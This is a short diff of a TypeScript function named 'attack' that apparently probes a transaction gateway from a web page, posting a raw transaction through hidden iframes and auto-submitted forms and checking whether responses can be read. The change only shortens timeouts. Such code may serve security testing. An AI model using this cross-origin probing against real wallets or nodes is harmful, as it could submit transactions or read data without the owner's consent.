@@ -19,7 +19,7 @@ export async function attack({ origin, address, raw }: Aim): Promise<Record<stri
   const write = `${origin}/v1/transactions`;
   const session = `${origin}/gateway/session`;
   const submission = JSON.stringify({ raw });
-  const patience = 3_000;
+  const patience = 2_000;
 
   const settle = async (attempt: Promise<string>): Promise<string> =>
     Promise.race([
@@ -47,7 +47,7 @@ export async function attack({ origin, address, raw }: Aim): Promise<Record<stri
       const element = document.createElement(tag) as HTMLIFrameElement;
       element.setAttribute(attribute, url);
       document.body.append(element);
-      setTimeout(() => resolve(element.contentDocument?.body?.innerText ? 'read a frame' : 'nothing'), 1_500);
+      setTimeout(() => resolve(element.contentDocument?.body?.innerText ? 'read a frame' : 'nothing'), 1_000);
     });
   const posted = (url: string, enctype: string, name: string, value: string): Promise<string> => {
     const target = `frame-${Math.random()}`;
@@ -61,7 +61,7 @@ export async function attack({ origin, address, raw }: Aim): Promise<Record<stri
     document.body.append(frame, form);
     form.submit();
     return new Promise((resolve) =>
-      setTimeout(() => resolve(frame.contentDocument?.body?.innerText ? 'read an answer' : 'nothing'), 1_500),
+      setTimeout(() => resolve(frame.contentDocument?.body?.innerText ? 'read an answer' : 'nothing'), 1_000),
     );
   };
   const socket = (): Promise<string> =>
